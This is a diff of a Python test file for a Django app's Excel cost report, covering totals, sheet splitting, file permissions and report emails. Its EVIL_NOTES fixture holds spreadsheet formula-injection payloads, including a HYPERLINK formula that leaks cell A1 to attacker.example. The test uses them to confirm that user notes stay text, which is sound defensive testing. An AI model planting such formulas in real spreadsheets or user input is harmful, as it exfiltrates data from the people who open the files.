@@ -1,16 +1,15 @@
-"""The Excel report reopened with openpyxl: sums match the stored totals, user text never becomes a formula."""
+"""The Excel report of a session the real pipeline ran, reopened with openpyxl: every cell is the stored figure and
+the sums match the stored totals; user text never becomes a formula."""
 import zipfile
 from decimal import Decimal
 from xml.etree import ElementTree
 
-import pytest
 from django.core import mail
 from openpyxl import load_workbook
 
 from optimizer.selectors import plan_costs
 from sessions import reports
 from sessions.reports import XLSX_MIME, report_email, report_write
-from tests.factories_results import session_with_results
 
 EVIL_NOTES = {
     0: '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
@@ -20,11 +19,6 @@ EVIL_NOTES = {
     4: "\t=1+1",
     5: "\r=1+1",
 }
-
-
-@pytest.fixture(autouse=True)
-def _reports_in_tmp(settings, tmp_path):
-    settings.REPORTS_DIR = tmp_path / "reports"
 
 
 def _money(value) -> Decimal:
@@ -48,8 +42,8 @@ def _summary(workbook) -> dict:
     return {row[0]: row[1] for row in workbook["Summary"].iter_rows(values_only=True) if row and row[0]}
 
 
-def test_m2m_report_sums_match_the_stored_totals_to_the_cent(provider_a):
-    session = session_with_results(provider=provider_a, groups=3, sims_per_group=17, seed=5)
+def test_m2m_report_sums_match_the_stored_totals_to_the_cent(completed_session, provider_a):
+    session = completed_session(provider=provider_a, groups=3, sims_per_group=17, seed=5)
     path = report_write(session=session)
     assert path.name == f"device_assignments_{session.guid}.xlsx"
     assert path.parent == reports.report_path(session=session).parent
@@ -65,6 +59,11 @@ def test_m2m_report_sums_match_the_stored_totals_to_the_cent(provider_a):
     assert _sum(r[6] for r in rows) == _money(session.optimized_cost)
     assert _sum(r[7] for r in rows) == _money(session.savings)
     assert {r[8] for r in rows} == {"yes", "no"}
+    stored = {a.iccid: a for a in session.run.assignments.all()}
+    assert set(stored) == {r[0] for r in rows}
+    for r in rows:
+        assert (_money(r[5]), _money(r[6])) == (stored[r[0]].current_cost, stored[r[0]].recommended_cost), r[0]
+        assert r[8] == ("yes" if stored[r[0]].changed else "no"), r[0]
 
     groups = list(wb["Groups"].iter_rows(min_row=2, values_only=True))
     total = groups[-1]
@@ -82,12 +81,13 @@ def test_m2m_report_sums_match_the_stored_totals_to_the_cent(provider_a):
     assert _money(summary["Lower bound"]) == _money(session.lower_bound)
     assert abs(summary["Gap (optimized above bound)"] - float(session.gap)) < 1e-9
     assert abs(summary["Savings %"] - float(session.savings / session.current_cost)) < 1e-9
-    assert summary["Method"].startswith("Certified") and summary["Stage start (seconds)"] == 1.0
+    assert summary["Method"].startswith("Certified")
+    assert summary["Stage start (seconds)"] == session.stage_timings["start"]["seconds"]
     assert summary["Session"] == str(session.guid)
 
 
-def test_summary_has_a_bar_chart_of_cost_per_plan_before_and_after(provider_a):
-    session = session_with_results(provider=provider_a, groups=2, sims_per_group=5)
+def test_summary_has_a_bar_chart_of_cost_per_plan_before_and_after(completed_session, provider_a):
+    session = completed_session(provider=provider_a, groups=2, sims_per_group=5)
     run = session.run
     path = report_write(session=session)
     with zipfile.ZipFile(path) as archive:
@@ -109,8 +109,8 @@ def test_summary_has_a_bar_chart_of_cost_per_plan_before_and_after(provider_a):
     assert _sum(c.cost_after for c in costs) == _money(session.optimized_cost)
 
 
-def test_a_formula_looking_device_note_stays_text(provider_a):
-    session = session_with_results(provider=provider_a, groups=1, sims_per_group=8, notes=EVIL_NOTES)
+def test_a_formula_looking_device_note_stays_text(completed_session, provider_a):
+    session = completed_session(provider=provider_a, groups=1, sims_per_group=8, notes=EVIL_NOTES)
     path = report_write(session=session)
     wb = load_workbook(path)
     ws = wb["Assignments"]
@@ -133,17 +133,17 @@ def test_a_formula_looking_device_note_stays_text(provider_a):
                 assert "<f>" not in archive.read(name).decode(), f"a formula in {name}"
 
 
-def test_illegal_control_characters_in_text_do_not_break_the_report(provider_a):
-    session = session_with_results(provider=provider_a, groups=1, sims_per_group=2, notes={0: "bell\x07 and escape\x1b"})
+def test_illegal_control_characters_in_text_do_not_break_the_report(completed_session, provider_a):
+    session = completed_session(provider=provider_a, groups=1, sims_per_group=2, notes={0: "bell\x07 and escape\x1b"})
     wb = load_workbook(report_write(session=session))
     notes = [r[9] for r in _sheet_rows(wb, "Assignments") if r[9]]
     assert notes == ["bell and escape"]
 
 
-def test_mobility_accounts_get_the_group_level_layout(provider_a):
+def test_mobility_accounts_get_the_group_level_layout(completed_session, provider_a):
     provider_a.portal_type = "Mobility"
     provider_a.save()
-    session = session_with_results(provider=provider_a, groups=3, sims_per_group=4, seed=9)
+    session = completed_session(provider=provider_a, groups=3, sims_per_group=4, seed=9)
     wb = load_workbook(report_write(session=session))
     assert wb.sheetnames == ["Summary", "Groups", "Assignments by group"]
     rows = _sheet_rows(wb, "Assignments by group")
@@ -161,11 +161,11 @@ def test_mobility_accounts_get_the_group_level_layout(provider_a):
     assert order.index("G1 subtotal") == 4 and order[:4] == ["G1"] * 4
 
 
-def test_rows_beyond_the_sheet_limit_continue_on_the_next_sheet(provider_a, monkeypatch):
+def test_rows_beyond_the_sheet_limit_continue_on_the_next_sheet(completed_session, provider_a, monkeypatch):
     assert reports.ROWS_PER_SHEET + 1 == 1_048_576, "Excel's limit, one header row per sheet"
     # The same logic at a size a test can afford.
     monkeypatch.setattr(reports, "ROWS_PER_SHEET", 5)
-    session = session_with_results(provider=provider_a, groups=2, sims_per_group=6)
+    session = completed_session(provider=provider_a, groups=2, sims_per_group=6)
     wb = load_workbook(report_write(session=session))
     assert wb.sheetnames == ["Summary", "Groups", "Assignments", "Assignments 2", "Assignments 3"]
     assert [wb[n].max_row for n in ("Assignments", "Assignments 2", "Assignments 3")] == [6, 6, 3]
@@ -175,32 +175,32 @@ def test_rows_beyond_the_sheet_limit_continue_on_the_next_sheet(provider_a, monk
     assert all(next(wb[n].iter_rows(max_row=1, values_only=True))[0] == "ICCID" for n in wb.sheetnames[2:])
 
 
-def test_a_full_last_sheet_does_not_leave_an_empty_one(provider_a, monkeypatch):
+def test_a_full_last_sheet_does_not_leave_an_empty_one(completed_session, provider_a, monkeypatch):
     monkeypatch.setattr(reports, "ROWS_PER_SHEET", 4)
-    session = session_with_results(provider=provider_a, groups=1, sims_per_group=8)
+    session = completed_session(provider=provider_a, groups=1, sims_per_group=8)
     wb = load_workbook(report_write(session=session))
     assert wb.sheetnames[2:] == ["Assignments", "Assignments 2"]
 
 
-def test_a_session_without_assignments_still_gets_a_report(provider_a):
-    session = session_with_results(provider=provider_a, groups=0)
+def test_a_session_without_assignments_still_gets_a_report(completed_session, provider_a):
+    session = completed_session(provider=provider_a, groups=0)
     wb = load_workbook(report_write(session=session))
     assert wb["Assignments"].max_row == 1
 
 
-def test_rewriting_replaces_the_report_in_place(provider_a):
-    session = session_with_results(provider=provider_a, groups=1, sims_per_group=2)
+def test_rewriting_replaces_the_report_in_place(completed_session, provider_a):
+    session = completed_session(provider=provider_a, groups=1, sims_per_group=2)
     first = report_write(session=session)
     second = report_write(session=session)
     assert first == second and [p.name for p in first.parent.iterdir()] == [first.name]
     assert first.stat().st_mode & 0o777 == 0o644, "readable by the web process, not only the worker"
 
 
-def test_report_email_goes_to_recipients_and_ops_with_the_attachment(provider_a, settings):
+def test_report_email_goes_to_recipients_and_ops_with_the_attachment(completed_session, provider_a, settings):
     settings.OPS_EMAILS = ["ops@carrieropt.example", "ops@example.com"]
     provider_a.report_recipients = "fleet@alice.example, ops@example.com"
     provider_a.save()
-    session = session_with_results(provider=provider_a, groups=1, sims_per_group=3)
+    session = completed_session(provider=provider_a, groups=1, sims_per_group=3)
     path = report_write(session=session)
     assert report_email(session=session, path=path) == 1
     (message,) = mail.outbox
@@ -214,10 +214,10 @@ def test_report_email_goes_to_recipients_and_ops_with_the_attachment(provider_a,
     assert name == path.name and mimetype == XLSX_MIME and content == path.read_bytes()
 
 
-def test_report_email_without_recipients_sends_nothing(provider_a, settings):
+def test_report_email_without_recipients_sends_nothing(completed_session, provider_a, settings):
     settings.OPS_EMAILS = []
     provider_a.report_recipients = ""
     provider_a.save()
-    session = session_with_results(provider=provider_a, groups=1, sims_per_group=1)
+    session = completed_session(provider=provider_a, groups=1, sims_per_group=1)
     assert report_email(session=session, path=report_write(session=session)) == 0
     assert mail.outbox == []
